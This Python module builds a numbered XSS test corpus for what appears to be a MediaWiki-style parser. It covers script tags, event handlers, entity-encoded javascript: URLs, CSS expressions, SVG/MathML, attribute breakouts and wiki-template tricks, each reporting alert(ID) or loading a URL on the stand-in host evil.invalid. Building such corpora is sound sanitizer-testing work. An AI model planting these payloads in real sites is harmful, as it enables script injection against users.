"""The XSS corpus: attack strings, each with an id that its payload reports when it runs.

Every payload calls `alert(ID)` (or loads `//evil.invalid/ID`), so an execution or a request to
another origin names the vector that caused it. `surface` says where a vector is planted: in page
text ("page"), as a page title, an edit summary, a user name or a search query.
"""

from __future__ import annotations

import html
from dataclasses import dataclass
from itertools import product

EVIL = "//evil.invalid"


@dataclass(frozen=True)
class Vector:
    id: int
    category: str
    surface: str
    text: str


class Corpus:
    def __init__(self) -> None:
        self.vectors: list[Vector] = []

    def add(self, category: str, template: str, surface: str = "page") -> None:
        """`template` holds JS as {js} (alert(ID)) and/or {id}; entity-encoding applies after."""
        vid = len(self.vectors) + 1
        text = template.replace("{js}", f"alert({vid})").replace("{id}", str(vid))
        self.vectors.append(Vector(vid, category, surface, text))

    def add_encoded(self, category: str, template: str, encode) -> None:
        vid = len(self.vectors) + 1
        js = encode(f"javascript:alert({vid})")
        self.vectors.append(Vector(vid, category, "page", template.replace("{url}", js)))


def _dec(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _hex(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" for c in text)


def _padded(text: str) -> str:
    return "".join(f"&#0000{ord(c)}" for c in text)


def _first_entity(text: str) -> str:
    return f"&#{ord(text[0])};{text[1:]}"


def _colon(text: str) -> str:
    return text.replace(":", "&colon;", 1)


def _tab(text: str) -> str:
    return text.replace("java", "java\t", 1)


def _newline(text: str) -> str:
    return text.replace("java", "java&#10;", 1)


def _pct(text: str) -> str:
    return "%6A" + text[1:]


def _upper(text: str) -> str:
    return "JaVaScRiPt" + text[10:]


def _space(text: str) -> str:
    return " " + text


def _html_named(text: str) -> str:
    return html.escape(text).replace("(", "&lpar;").replace(")", "&rpar;")


ENCODINGS = [
    lambda s: s,
    _upper,
    _dec,
    _hex,
    _padded,
    _first_entity,
    _colon,
    _tab,
    _newline,
    _pct,
    _space,
    _html_named,
]

TAGS = [
    "img", "svg", "body", "div", "span", "b", "p", "a", "table", "td", "font", "center", "u",
    "code", "pre", "blockquote", "li", "h2", "abbr", "details", "video", "audio", "iframe", "input",
    "button", "textarea", "select", "marquee", "object", "embed", "image", "bdi", "ruby", "mark",
]  # fmt: skip
HANDLERS = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onpointerenter"]


def _script_tags(c: Corpus) -> None:
    for form in [
        "<script>{js}</script>",
        "<SCRIPT>{js}</SCRIPT>",
        "<ScRiPt>{js}</sCrIpT>",
        "<script >{js}</script >",
        "<script\n>{js}</script\n>",
        "<script/x>{js}</script>",
        "<script src=data:,{js}></script>",
        "<script src=" + EVIL + "/{id}.js></script>",
        "<scr<script>ipt>{js}</scr</script>ipt>",
        "<<script>script>{js}<</script>/script>",
        "<script>/*</script><script>*/{js}</script>",
        "<script type=module>{js}</script>",
        '<script language="javascript">{js}</script>',
        "<script\t>{js}</script>",
        "<script <!-- >{js}</script>",
        "&lt;script&gt;{js}&lt;/script&gt;",
        '<noscript><p title="</noscript><img src=x onerror={js}>">',
        "<style>@import '" + EVIL + "/{id}.css';</style>",
        "<style>body{background:url(" + EVIL + "/{id})}</style>",
        "<link rel=stylesheet href=" + EVIL + "/{id}.css>",
        '<meta http-equiv=refresh content="0;url=javascript:{js}">',
        "<base href=" + EVIL + "/{id}/>",
        "<iframe src=javascript:{js}></iframe>",
        '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
        "<object data=javascript:{js}></object>",
        "<embed src=javascript:{js}>",
        "<form action=javascript:{js}><button>go</button></form>",
        "<button formaction=javascript:{js}>go</button>",
        "<a href=javascript:{js}>click</a>",
        "<isindex action=javascript:{js} type=image>",
    ]:
        c.add("script-tag", form)


def _event_handlers(c: Corpus) -> None:
    spacings = [
        " {h}={js}",
        ' {h}="{js}"',
        "/{h}={js}",
        "\t{h}='{js}'",
        "\n{h}={js}",
        " {H}={js}",
        '  {h} = "{js}"',
    ]
    for i, tag in enumerate(TAGS):
        handler = HANDLERS[i % len(HANDLERS)]
        for j in range(3):  # three spacings/cases per tag, rotating
            spacing = spacings[(i + j) % len(spacings)]
            attrs = spacing.replace("{h}", handler).replace("{H}", handler.upper())
            extra = " src=x" if tag in ("img", "video", "audio", "input", "image") else ""
            extra += " open" if tag == "details" else ""
            extra += " autofocus tabindex=1" if handler == "onfocus" else ""
            c.add("event-handler", f"<{tag}{extra}{attrs}>x</{tag}>")


def _urls(c: Corpus) -> None:
    forms = {
        "[{url} click]": "url-ext",
        "[[{url}]]": "url-internal",
        "[[{url}|click]]": "url-internal-piped",
        "[[:{url}]]": "url-internal-colon",
        "{url}": "url-bare",
    }
    for (form, category), encode in product(forms.items(), ENCODINGS):
        c.add_encoded(category, form, encode)
    for form in [
        "[data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== click{id}]",
        "[data:text/html,<script>{js}</script> click]",
        "[vbscript:msgbox({id}) click]",
        "[[File:X.png|link=javascript:{js}]]",
        "[[Image:X.png|link=javascript:{js}|alt=x]]",
        "[[File:X.png|link=" + EVIL + "/{id}]]",
        "[//evil.invalid/{id} protocol-relative]",
        "[[Special:Search/<script>{js}</script>]]",
        "[[Foo|<script>{js}</script>]]",
        "[[Foo|<img src=x onerror={js}>]]",
        "[[Foo#<script>{js}</script>|x]]",
        '[[Foo#"onmouseover={js} x="|x]]',
        '[http://example.org/"onmouseover="{js} click]',
        "[http://example.org/'onmouseover='{js} click]",
        'http://example.org/"onmouseover="{js}',
        "[http://example.org/<script>{js}</script> x]",
        '{{fullurl:Foo|a="><script>{js}</script>}}',
        "{{localurl:javascript:{js}}}",
        "{{canonicalurl:Foo|x=<img src=x onerror={js}>}}",
        "{{urlencode:<script>{js}</script>}}",
        "{{anchorencode:<script>{js}</script>}}",
        "[[:javascript&#58;{js}|x]]",
        "[java&#x09;script:{js} x]",
        '[[mailto:x@y" onmouseover="{js}]]',
        '[mailto:x@y"onmouseover="{js} mail]',
    ]:
        c.add("url-misc", form)


def _styles(c: Corpus) -> None:
    for style in [
        "width:expression({js})",
        "width:EXPRESSION({js})",
        "width:expr/**/ession({js})",
        "width:\\65 xpression({js})",
        "width:\\000065xpression({js})",
        "width:ex\\pression({js})",
        "background:url(javascript:{js})",
        "background:url(" + EVIL + "/{id})",
        "background-image:url('" + EVIL + "/{id}')",
        "background:\\75 rl(" + EVIL + "/{id})",
        "background:u\\rl(" + EVIL + "/{id})",
        "background:image-set('" + EVIL + "/{id}' 1x)",
        "list-style:url(" + EVIL + "/{id})",
        "-moz-binding:url(" + EVIL + "/{id}#x)",
        "behavior:url(" + EVIL + "/{id}.htc)",
        "background:url(&#34;" + EVIL + "/{id}&#34;)",
        "background:url(&#x2F;&#x2F;evil.invalid/{id})",
        "color:red;}</style><script>{js}</script>",
        '" onmouseover="{js}',
        "x:expression&#40;{js}&#41;",
        "@import '" + EVIL + "/{id}.css'",
        "content:url(" + EVIL + "/{id})",
    ]:
        c.add("style", f'<div style="{style}">styled</div>')
    c.add("style", '<span style="x:\\0065\\0078pression({js})">s</span>')
    c.add("style", "<p style='background:url(\"" + EVIL + "/{id}\")'>s</p>")


def _svg_math(c: Corpus) -> None:
    for form in [
        "<svg onload={js}>",
        "<svg><script>{js}</script></svg>",
        "<svg><script href=data:,{js} /></svg>",
        "<svg><a xlink:href=javascript:{js}><text>x</text></a></svg>",
        "<svg><animate onbegin={js} attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:{js}>",
        "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
        "<svg><style><img src=x onerror={js}></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
        "<math href=javascript:{js}>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
        "<math>\\href{javascript:{js}}{x}</math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>",
        "<svg><![CDATA[><img src=x onerror={js}>]]></svg>",
        "<svg><title><img src=x onerror={js}></title></svg>",
        "<svg/onload={js}>",
        "<svg><use href=data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='{js}'/></svg>#x></use></svg>",  # noqa: E501
        "<chem><img src=x onerror={js}></chem>",
        "<ce>\\href{javascript:{js}}{x}</ce>",
        '<graph>{"url":"javascript:{js}"}</graph>',
    ]:
        c.add("svg-math", form)


def _attribute_breakouts(c: Corpus) -> None:
    for form in [
        '{| class="x" onmouseover="{js}"\n| cell\n|}',
        '{| style="x" " onmouseover={js} "\n| cell\n|}',
        "{|\n|- onclick={js}\n| cell\n|}",
        '{|\n| title="a" onmouseover={js} | cell\n|}',
        '{|\n! scope="col" onmouseover="{js}" | head\n|}',
        '{|\n| title="a\\" onmouseover=\\"{js}" | cell\n|}',
        "{|\n|+ onmouseover={js} | caption\n|}",
        '{| title="{{Echo|" onmouseover="{js}}}"\n| c\n|}',
        '{|\n| {{Echo|onmouseover="{js}"}} | cell\n|}',
        '<div title="{{Echo|&quot; onmouseover=&quot;{js}}}">x</div>',
        '{{Param|" onmouseover="{js}}}',
        "{{Param|' onmouseover='{js}}}",
        "{{Attr|onmouseover={js}}}",
        "{{Attr|style=x onmouseover={js}}}",
        '{{Attr|title="x" onmouseover="{js}"}}',
        '<span title="x&quot; onmouseover=&quot;{js}">x</span>',
        "<span title='x&#39; onmouseover=&#39;{js}'>x</span>",
        '<span title="x" title2=">" onmouseover="{js}">x</span>',
        "<span title=`x`onmouseover=`{js}`>x</span>",
        '<li onclick="{js}">item</li>',
        '* <span onmouseover="{js}">list</span>',
        "# item <b onclick={js}>x</b>",
        '; term <i onmouseover="{js}">x</i> : def',
        '<ol start="1" onmouseover="{js}"><li>x</li></ol>',
        '<div id="x" class="a" data-x="y" onmouseover="{js}">x</div>',
        '<div data-onload="{js}" data-mw="{js}">x</div>',
        '<span id="{{Echo|x" onmouseover="{js}}}">x</span>',
        '<ref name="x" onmouseover="{js}">note</ref><references/>',
        '<ref name="&quot;><img src=x onerror={js}>">note</ref><references/>',
        '== <span onmouseover="{js}">Heading</span> ==',
        '== Heading"onmouseover="{js} ==',
        "== <img src=x onerror={js}> ==",
        '__TOC__\n== A"><img src=x onerror={js}> ==\n== B ==\n== C ==\n== D ==',
        "<gallery>\nFile:X.png|<img src=x onerror={js}>\n</gallery>",
        '<abbr title="a" onmouseover="{js}">abbr</abbr>',
        '<font color="red" face="x\' onmouseover=\'{js}">f</font>',
    ]:
        c.add("attribute-breakout", form)


def _nowiki_comments(c: Corpus) -> None:
    for form in [
        "<nowiki></nowiki><script>{js}</script>",
        "<nowiki><script>{js}</script></nowiki>",
        "<nowiki>&lt;script&gt;{js}&lt;/script&gt;</nowiki>",
        "<nowiki><img src=x onerror={js}></nowiki>",
        "<nowiki/><img src=x onerror={js}>",
        "<!-- --><script>{js}</script>",
        "<!-- <script> -->{js}</script>",
        "<!--<nowiki>--><img src=x onerror={js}><!--</nowiki>-->",
        "<nowiki><!--</nowiki>--><img src=x onerror={js}>",
        "<!-- --!><img src=x onerror={js}> -->",
        "<!--><img src=x onerror={js}>-->",
        "<pre><script>{js}</script></pre>",
        "<pre><img src=x onerror={js}></pre>",
        " <img src=x onerror={js}>",
        "<code><script>{js}</script></code>",
        "<source><script>{js}</script></source>",
        "<syntaxhighlight><script>{js}</script></syntaxhighlight>",
        '<syntaxhighlight lang="html">"><img src=x onerror={js}></syntaxhighlight>',
        "<includeonly><script>{js}</script></includeonly>",
        "<noinclude><img src=x onerror={js}></noinclude>",
        "<onlyinclude><img src=x onerror={js}></onlyinclude>",
        "<ref><script>{js}</script></ref><references/>",
        "<poem><img src=x onerror={js}></poem>",
        "<nowiki></nowiki>&#60;script&#62;{js}&#60;/script&#62;",
        "<![CDATA[<img src=x onerror={js}>]]>",
        "<?xml version=1?><img src=x onerror={js}>",
        "<nowiki>]]></nowiki><img src=x onerror={js}>",
    ]:
        c.add("nowiki-comment", form)


def _template_built(c: Corpus) -> None:
    for form in [
        "{{Lt}}script{{Gt}}{js}{{Lt}}/script{{Gt}}",
        "{{Lt}}img src=x onerror={js}{{Gt}}",
        "{{#tag:script|{js}}}",
        "{{#tag:img||src=x|onerror={js}}}",
        "{{#tag:span|x|onmouseover={js}}}",
        "{{#tag:span|x|style=width:expression({js})}}",
        "{{#tag:nowiki|<script>{js}</script>}}",
        "{{#tag:pre|<script>{js}</script>}}",
        "{{#tag:ref|<img src=x onerror={js}>}}<references/>",
        "{{#if:1|<script>}}{js}{{#if:1|</script>}}",
        "{{#if:1|<img src=x onerror=}}{js}>",
        "<{{Echo|script}}>{js}</{{Echo|script}}>",
        "<img{{Echo| }}src=x onerror={js}>",
        "<span {{Echo|onmouseover}}={js}>x</span>",
        "{{Echo|<script>{js}</script>}}",
        "{{Echo|1=<img src=x onerror={js}>}}",
        "{{{1|<script>{js}</script>}}}",
        "{{#switch:a|a=<script>{js}</script>}}",
        "{{#expr:1}}<script>{js}</script>",
        "{{lc:<SCRIPT>{js}</SCRIPT>}}",
        "{{ucfirst:<script>{js}</script>}}",
        "{{padleft:<script>|20|x}}{js}",
        "{{DISPLAYTITLE:<script>{js}</script>}}",
        "{{DISPLAYTITLE:<span onmouseover={js}>x</span>}}",
        "{{DEFAULTSORT:<script>{js}</script>}}",
        "[[Category:<script>{js}</script>]]",
        '[[Category:Foo|"><img src=x onerror={js}>]]',
        "{{Template:<script>{js}</script>}}",
        '{{:Xss "onmouseover={js}}}',
        "{{#invoke:<script>{js}</script>}}",
        "{{#language:<script>{js}</script>}}",
        "{{#formatdate:<script>{js}</script>}}",
        '{{#time:"<script>{js}</script>"}}',
    ]:
        c.add("template-built", form)


def _metadata(c: Corpus) -> None:
    for form in [
        'Xss title "onmouseover={js} x="',
        "Xss title 'onmouseover={js} x='",
        "Xss title &quot;onmouseover={js}",
        "Xss title &#34; onfocus={js} autofocus",
        "Xss title javascript:{js}",
        'Xss title "/onmouseover={js}//',
        "Xss title ' style='x:expression({js})",
        "Xss title %22onmouseover%3D{js}",
    ]:
        c.add("title", form, "title")
    for form in [
        "<script>{js}</script>",
        "<img src=x onerror={js}>",
        "[[Foo|<img src=x onerror={js}>]]",
        "[[javascript:{js}]]",
        "/* <script>{js}</script> */ section",
        '/* a" onmouseover="{js} */',
        '[http://example.org/"onmouseover="{js} x]',
        "&lt;script&gt;{js}&lt;/script&gt;",
        '"><svg onload={js}>',
        "'><svg onload={js}>",
        "</textarea><script>{js}</script>",
        "</title><script>{js}</script>",
        "{{Echo|<script>{js}</script>}}",
        "[[:File:x.png|<script>{js}</script>]]",
        "<nowiki><script>{js}</script></nowiki>",
    ]:
        c.add("summary", form, "summary")
    for form in [
        'Xss user "onmouseover={js} x="',
        "Xss user 'onmouseover={js} x='",
        "Xss user &quot;onfocus={js}",
        "Xss user javascript:{js}",
        'Xss user \\"onmouseover={js}',
        "Xss user ' autofocus onfocus='{js}",
    ]:
        c.add("user", form, "user")
    for form in [
        "<script>{js}</script>",
        '"><img src=x onerror={js}>',
        "'><img src=x onerror={js}>",
        "</title><script>{js}</script>",
        "</textarea><script>{js}</script>",
        "javascript:{js}",
        '" autofocus onfocus="{js}',
        "xssmark <b onmouseover={js}>",
        "{{Echo|<script>{js}</script>}}",
        "[[Foo|<img src=x onerror={js}>]]",
        "&lt;script&gt;{js}&lt;/script&gt;",
        "%3Cscript%3E{js}%3C/script%3E",
        "<svg onload={js}>",
        'xssmark"; {js}; "',
        "--><script>{js}</script>",
    ]:
        c.add("search", form, "search")


def build() -> list[Vector]:
    corpus = Corpus()
    for part in (
        _script_tags,
        _event_handlers,
        _urls,
        _styles,
        _svg_math,
        _attribute_breakouts,
        _nowiki_comments,
        _template_built,
        _metadata,
    ):
        part(corpus)
    return corpus.vectors


VECTORS = build()

# Helper templates the vectors use, created before any vector page.
TEMPLATES = {
    "Template:Lt": "<nowiki><</nowiki>",
    "Template:Gt": "<nowiki>></nowiki>",
    "Template:Echo": "{{{1}}}",
    "Template:Param": '<div title="{{{1}}}">param</div>',
    "Template:Attr": "<span {{{1}}}>attr</span>",
}
